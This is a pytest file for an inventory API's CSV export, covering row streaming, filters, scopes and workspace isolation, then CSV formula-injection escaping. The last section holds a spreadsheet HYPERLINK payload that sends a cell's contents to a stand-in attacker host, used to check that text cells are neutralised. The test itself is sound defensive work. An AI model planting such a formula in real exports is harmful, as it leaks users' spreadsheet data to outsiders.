"""`Accept: text/csv` on the list endpoints (issue 8): every matching row, streamed, whatever
`limit` says, with the columns of `storekeeper export`; filters, scopes and workspaces apply as
they do to JSON; a bad filter is still a 4xx in the SPEC's error format."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from storekeeper.services.exports import ITEM_COLUMNS, MOVEMENT_COLUMNS, STOCK_COLUMNS

CSV = {"Accept": "text/csv"}


def ok(r):
    assert r.status_code in (200, 201), r.text
    return r.json()


def table(r) -> list[dict[str, str]]:
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(r.text)))


def stocked(api, count: int) -> None:
    ok(api.post("/v1/locations", json={"name": "Main", "is_default": True}))  # where stock goes unless named
    ok(api.post("/v1/locations", json={"name": "Shop"}))
    for n in range(count):
        ok(api.post("/v1/items", json={"sku": f"LAMP-{n:04d}", "name": f"Lamp {n}", "price": "9.90",
                                       "tags": ["lamps", "brass"] if n % 2 else []}))
    adjustments = [{"item": f"LAMP-{n:04d}", "reason": "receipt", "delta": n + 1, "unit_cost": "2.5"}
                   for n in range(count)]
    ok(api.post("/v1/stock/adjustments/bulk", json={"adjustments": adjustments}))
    if count > 3:
        ok(api.post("/v1/stock/transfers", json={"item": "LAMP-0003", "to": "Shop", "quantity": "1.5"}))


def test_items_as_csv_are_every_matching_item_beyond_a_page(api):
    stocked(api, 120)  # twelve pages of ten
    r = api.get("/v1/items?limit=10", headers=CSV)
    rows = table(r)
    assert 'filename="items.csv"' in r.headers["content-disposition"]
    assert list(rows[0]) == list(ITEM_COLUMNS)
    assert [row["sku"] for row in rows] == [f"LAMP-{n:04d}" for n in range(120)]
    assert rows[1]["tags"] == "lamps, brass" and rows[0]["tags"] == ""
    assert rows[3]["on_hand"] == "4" and rows[3]["price"] == "9.90" and rows[3]["average_cost"] == "2.50"
    # Filters and sorts apply as to the JSON list.
    rows = table(api.get("/v1/items?q=lamp-011&sort=-sku", headers=CSV))
    assert [row["sku"] for row in rows] == [f"LAMP-{n:04d}" for n in range(119, 109, -1)]


def test_stock_as_csv_is_a_row_per_level(api):
    stocked(api, 5)
    rows = table(api.get("/v1/stock", headers=CSV))
    assert list(rows[0]) == list(STOCK_COLUMNS)
    assert [(r["sku"], r["location"], r["on_hand"]) for r in rows] == [
        ("LAMP-0000", "Main", "1"), ("LAMP-0001", "Main", "2"), ("LAMP-0002", "Main", "3"),
        ("LAMP-0003", "Main", "2.5"), ("LAMP-0003", "Shop", "1.5"), ("LAMP-0004", "Main", "5")]
    rows = table(api.get("/v1/stock?location=Shop", headers=CSV))
    assert [(r["sku"], r["location"], r["on_hand"], r["unit_cost"]) for r in rows] == [
        ("LAMP-0003", "Shop", "1.5", "2.50")]


def test_movements_as_csv_follow_the_filters(api):
    stocked(api, 3)
    rows = table(api.get("/v1/stock/movements?order=asc", headers=CSV))
    assert list(rows[0]) == list(MOVEMENT_COLUMNS)
    assert [(r["sequence"], r["sku"], r["reason"], r["delta"]) for r in rows] == [
        ("1", "LAMP-0000", "receipt", "1"), ("2", "LAMP-0001", "receipt", "2"), ("3", "LAMP-0002", "receipt", "3")]
    rows = table(api.get("/v1/items/LAMP-0002/movements", headers=CSV))
    assert [(r["sku"], r["location"], r["actor_type"]) for r in rows] == [("LAMP-0002", "Main", "api_key")]


def test_json_stays_the_default_and_wins_when_both_are_accepted(api):
    stocked(api, 2)
    assert ok(api.get("/v1/items"))["meta"]["total"] == 2
    r = api.get("/v1/items", headers={"Accept": "application/json, text/csv"})
    assert r.headers["content-type"].startswith("application/json")


def test_a_bad_filter_is_a_json_error_not_a_broken_file(api):
    r = api.get("/v1/stock?as_of=2026-01-01T00:00:00Z&status=low", headers=CSV)
    assert r.status_code == 422
    assert r.json()["error"]["code"] == "VALIDATION_ERROR"


def test_scopes_and_workspaces_hold_for_csv(workspace, other_workspace):
    stocked(workspace.api, 2)
    items_only = workspace.key_with("items:read")
    assert items_only.get("/v1/stock", headers=CSV).status_code == 403
    assert items_only.get("/v1/stock/movements", headers=CSV).status_code == 403
    assert len(table(items_only.get("/v1/items", headers=CSV))) == 2
    assert table(other_workspace.api.get("/v1/items", headers=CSV)) == []
    assert other_workspace.api.get("/v1/items/LAMP-0001/movements", headers=CSV).status_code == 404


# --- Formula injection (issue 19, item 5) ----------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def assert_no_cell_starts_a_formula(rows: list[dict[str, str]]) -> None:
    """Only a number may start with a trigger (`-2`): every text cell is escaped."""
    for row in rows:
        for column, value in row.items():
            if value.startswith(TRIGGERS):
                assert Decimal(value) < 0, (column, value)


def test_text_cells_that_would_start_a_formula_are_escaped_and_numbers_are_not(api):
    ok(api.post("/v1/locations", json={"name": "@Back room"}))
    ok(api.post("/v1/items", json={"sku": "-LAMP", "name": FORMULA, "supplier": "+44 20 7946 0000",
                                   "brand": "'=quoted", "description": "'Til dawn", "tags": ["-sale", "lamps"],
                                   "price": "9.90"}))
    ok(api.post("/v1/stock/adjustments", json={"item": "-LAMP", "location": "@Back room", "reason": "receipt",
                                               "delta": 5, "unit_cost": "2", "note": "=1+1"}))
    ok(api.post("/v1/stock/adjustments", json={"item": "-LAMP", "location": "@Back room", "reason": "sale",
                                               "delta": -2, "note": "@SUM(A1)"}))

    [item] = table(api.get("/v1/items", headers=CSV))
    assert (item["sku"], item["name"], item["supplier"]) == ("'-LAMP", "'" + FORMULA, "'+44 20 7946 0000")
    assert (item["brand"], item["description"], item["tags"]) == ("''=quoted", "'Til dawn", "'-sale, lamps")
    assert (item["on_hand"], item["price"], item["average_cost"]) == ("3", "9.90", "2.00")
    [level] = table(api.get("/v1/stock", headers=CSV))
    assert (level["sku"], level["location"], level["on_hand"]) == ("'-LAMP", "'@Back room", "3")
    for path in ("/v1/stock/movements?order=asc", "/v1/items/-LAMP/movements?order=asc"):
        moved = table(api.get(path, headers=CSV))
        assert [(m["sku"], m["location"], m["delta"], m["note"]) for m in moved] == [
            ("'-LAMP", "'@Back room", "5", "'=1+1"), ("'-LAMP", "'@Back room", "-2", "'@SUM(A1)")]
        assert_no_cell_starts_a_formula(moved)
    snap = ok(api.post("/v1/snapshots", json={}))
    r = api.get(f"/v1/snapshots/{snap['id']}", headers=CSV)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    [level] = list(csv.DictReader(io.StringIO(r.text)))
    assert (level["sku"], level["location_name"], level["on_hand"]) == ("'-LAMP", "'@Back room", "3")
    for rows in ([item], [level]):
        assert_no_cell_starts_a_formula(rows)
